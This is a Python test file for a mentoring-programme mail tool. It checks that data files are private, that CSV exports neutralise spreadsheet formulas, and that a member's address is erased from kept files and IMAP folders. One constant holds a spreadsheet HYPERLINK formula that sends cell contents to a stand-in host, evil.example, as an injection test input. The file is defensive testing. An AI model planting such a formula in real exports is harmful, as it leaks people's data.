"""Personal data at rest, seen from the outside: file modes after a sandbox programme, CSV exports a
spreadsheet cannot run, and "forget me" leaving no trace of the address in any file we keep.

Everything is driven through the real CLI and the product's sandbox SMTP server; people write and reply
with `unmentoring sandbox send`, as the README's walk-through does.
"""

from __future__ import annotations

import base64
import csv
import email
import io
import json
import logging
import os
import quopri
import stat
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email import policy
from email.message import EmailMessage
from pathlib import Path

import pytest

from inbox.sources.imap import ImapSource
from mailkit.servers import ImapServer
from matcher import erasure, members
from matcher.model import OutboxEntry, OutboxStatus
from matcher.store import Store
from tests.helpers.cli_env import KIND_HEADER, PROGRAMME_ADDRESS, CliEnv, messages_of_kind
from tests.servers import ImapAccount, free_port
from unmentoring.csv_cells import neutralise, restore
from unmentoring.sandbox import SandboxServer, list_maildir

ALICE = "alice@example.org"
BOB = "bob@example.org"
CAROL = "carol@example.org"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.fixture
def umask_022() -> Iterator[None]:
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


@pytest.fixture
def env(tmp_path: Path, umask_022: None) -> CliEnv:
    return CliEnv(tmp_path / "programme", sandbox_port=free_port())


def number_of_latest(env: CliEnv, address: str, kind: str) -> int:
    """The `sandbox read` number of the latest mail of ``kind`` in the person's mailbox."""
    found = [m.number for m in list_maildir(env.mailbox(address)) if m.parse()[KIND_HEADER] == kind]
    assert found, f"{address} has no {kind!r} mail"
    return found[-1]


def write(env: CliEnv, who: str, text: str, *, replying_to: str = "") -> None:
    args = ["sandbox", "send", "--from", who]
    if replying_to:
        args += ["--reply-to-message", str(number_of_latest(env, who, replying_to))]
    env.ok(*args, text)


def join(env: CliEnv, who: str, name: str) -> None:
    write(env, who, f"join\nname: {name}\norg: Leeds City Council")
    env.ok("tick")
    write(env, who, "yes", replying_to="confirm_join")
    env.ok("tick")
    assert messages_of_kind(env.mailbox(who), "welcome"), f"{who} was not welcomed"


def run_a_round(env: CliEnv) -> None:
    env.ok("round", "start")
    env.ok("round", "followup", "--force")
    write(env, ALICE, "met", replying_to="followup")
    env.ok("tick")
    env.ok("round", "close", "--force")
    assert messages_of_kind(env.mailbox("organiser@localhost"), "summary"), "no summary for the organisers"


def kept_files(env: CliEnv) -> list[Path]:
    """Every file under the data folder except people's own mailboxes (sandbox/mailboxes/: the mail we
    sent them, now theirs, standing in for their mail provider)."""
    theirs = env.sandbox_dir / "mailboxes"
    return [p for p in env.data_dir.rglob("*") if p.is_file() and not p.is_relative_to(theirs)]


# -- item 6: files -------------------------------------------------------------------------------


def test_nothing_in_the_data_folder_is_readable_by_others_after_a_programme_runs(
    env: CliEnv, sandbox: SandboxServer
) -> None:
    join(env, ALICE, "Alice")
    join(env, BOB, "Bob")
    run_a_round(env)

    paths = [env.data_dir, *env.data_dir.rglob("*")]
    assert any(p.name.endswith(".bak1") for p in paths), "the scenario should have made a backup"
    assert any(p.parent.name == "outbox" for p in paths) or (env.data_dir / "outbox").is_dir()
    wide = {
        str(p.relative_to(env.data_dir)): oct(stat.S_IMODE(p.lstat().st_mode))
        for p in paths
        if stat.S_IMODE(p.lstat().st_mode) & 0o077
    }
    assert wide == {}
    assert stat.S_IMODE(env.data_dir.stat().st_mode) == 0o700


def test_files_left_readable_by_an_older_version_are_tightened_at_start(
    env: CliEnv, sandbox: SandboxServer, caplog: pytest.LogCaptureFixture
) -> None:
    env.ok("members", "add", ALICE)
    env.ok("members", "add", BOB)  # a second open: a backup of the first version
    backup = env.data_dir / "unmentoring.json.bak1"
    backup.chmod(0o644)
    env.database.chmod(0o664)
    env.data_dir.chmod(0o755)
    (env.data_dir / "outbox").chmod(0o755)

    with caplog.at_level(logging.WARNING):
        env.ok("tick")

    assert stat.S_IMODE(env.data_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE((env.data_dir / "outbox").stat().st_mode) == 0o700
    assert stat.S_IMODE(env.database.stat().st_mode) == 0o600
    assert all(stat.S_IMODE(p.stat().st_mode) == 0o600 for p in env.data_dir.glob("unmentoring.json.bak*"))
    assert any("readable by others; now private" in r.getMessage() for r in caplog.records)


# -- item 7: exports -----------------------------------------------------------------------------


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_a_cell_a_spreadsheet_would_run_is_prefixed_and_restored(cell: str) -> None:
    assert neutralise(cell) == "'" + cell
    assert restore(neutralise(cell)) == cell


@pytest.mark.parametrize("cell", ["Alice", "", "'quoted", "O'Neil", "1-2", "a=b"])
def test_ordinary_cells_are_left_alone(cell: str) -> None:
    assert neutralise(cell) == cell and restore(cell) == cell


def test_a_formula_name_joined_by_email_is_exported_as_text_and_imports_back(
    env: CliEnv, sandbox: SandboxServer, tmp_path: Path
) -> None:
    join(env, ALICE, FORMULA)
    assert [m["name"] for m in env.members()] == [FORMULA]

    exported = env.ok("members", "export").stdout
    (row,) = csv.DictReader(io.StringIO(exported))
    assert row["name"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())

    other = CliEnv(tmp_path / "other", sandbox_port=env.sandbox_port)
    export_file = tmp_path / "export.csv"
    export_file.write_text(exported, encoding="utf-8")
    other.ok("members", "import", str(export_file), "--email-column", "address", "--org-column", "org")
    assert [(m["address"], m["name"]) for m in other.members()] == [(ALICE, FORMULA)]


# -- item 9: erasure -----------------------------------------------------------------------------


def forms_of(address: str) -> list[bytes]:
    """The address as bytes in the forms a file could hold it: as is, upper case, quoted-printable, and
    base64 at each of the three alignments (the characters that depend only on the address)."""
    raw = address.encode()
    forms = [raw.lower(), quopri.encodestring(raw).strip().lower()]
    for pad in range(3):
        encoded = base64.b64encode(b"\0" * pad + raw)
        forms.append(encoded[(pad * 4 + 2) // 3 + 1 : -3])  # drop chars mixed with padding bytes
    return forms


def test_forget_me_leaves_the_address_in_no_file_we_keep(env: CliEnv, sandbox: SandboxServer) -> None:
    join(env, ALICE, "Alice")
    join(env, BOB, "Bob")
    join(env, CAROL, "Carol")
    run_a_round(env)
    env.ok("members", "add", "dan@example.org")  # another open: backups of versions holding Alice

    write(env, ALICE, "forget me")
    env.ok("tick")
    write(env, ALICE, "forget me", replying_to="confirm_forget")
    env.ok("tick")

    assert messages_of_kind(env.mailbox(ALICE), "forgotten"), "Alice was not told"
    assert ALICE not in [m["address"] for m in env.members()]
    files = kept_files(env)
    assert any(p.name.endswith(".bak1") for p in files)
    assert any(".Processed" in p.parts for p in files), "processed mail is kept: the test must look at it"
    leaks = {}
    for path in files:
        data = path.read_bytes()
        found = [form for form in forms_of(ALICE) if form in data.lower()]
        if b"\nsubject:" in data.lower() or data.lower().startswith(b"return-path"):
            message = email.message_from_bytes(data, policy=policy.default)
            text = " ".join(str(v) for v in message.values())
            for part in message.walk():
                payload = part.get_payload(decode=True)
                text += payload.decode("utf-8", "replace") if isinstance(payload, bytes) else ""
            if ALICE in text.lower():
                found.append(b"decoded")
        if found:
            leaks[str(path.relative_to(env.data_dir))] = found
    assert leaks == {}
    # the others' data is still there, and the programme goes on
    assert {m["address"] for m in env.members()} == {BOB, CAROL, "dan@example.org"}
    assert any(BOB.encode() in p.read_bytes() for p in files if p.name == "unmentoring.json")


def test_a_farewell_that_cannot_go_is_cancelled_after_the_erasure_window(tmp_path: Path) -> None:
    now = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
    with Store.open(tmp_path / "db.json") as store:
        with store.transaction():
            member = members.activate(store, members.start_joining(store, ALICE, {"name": "Alice"}, now), now)
            members.erase(store, member, now)
            store.put(OutboxEntry("forgotten:1", "forgotten", PROGRAMME_ADDRESS, [ALICE], "id@localhost"))

        assert erasure.ready(store, now + timedelta(hours=23)) == []
        assert store.get(OutboxEntry, "forgotten:1").status is OutboxStatus.QUEUED

        (late,) = erasure.ready(store, now + erasure.ERASURE_WINDOW)
        assert late.address == ALICE
        with store.transaction():
            erasure.finish(store, [late])
        entry = store.get(OutboxEntry, "forgotten:1")
        assert entry.status is OutboxStatus.FAILED and entry.last_error == erasure.CANCELLED
        assert entry.recipients == [erasure.address_digest(ALICE)]
        assert ALICE not in json.dumps(entry.to_dict())


def mail(sender: str, body: str, *, cte: str = "7bit") -> bytes:
    message = EmailMessage()
    message["From"] = sender
    message["To"] = PROGRAMME_ADDRESS
    message["Subject"] = "hello"
    message.set_content(body, cte=cte)
    return message.as_bytes(policy=policy.SMTP)


def test_kept_mail_naming_the_address_is_expunged_from_the_imap_folders(imap_account: ImapAccount) -> None:
    from_alice = mail(ALICE, "forget me")
    quoting_alice = mail(BOB, f"> To: {ALICE}\nmet!\n", cte="base64")  # only the decoded body names her
    from_bob = mail(BOB, "met")
    imap_account.deliver(from_alice, "Processed")
    imap_account.deliver(quoting_alice, "Quarantine")
    imap_account.deliver(from_bob, "Processed")
    imap_account.deliver(mail(ALICE, "join"))  # not processed yet: not ours to drop
    settings = ImapServer(
        host=imap_account.host,
        port=imap_account.imaps_port,
        username=imap_account.user,
        password=imap_account.password,
        ca_file=imap_account.ca_file,
        timeout=10.0,
    )
    with ImapSource(settings, {}) as source:
        assert source.forget(ALICE) == 2
        assert len(list(source.fetch_new())) == 1  # the inbox is selected again afterwards

    assert imap_account.list_folder("Processed") == [from_bob]
    assert imap_account.list_folder("Quarantine") == []
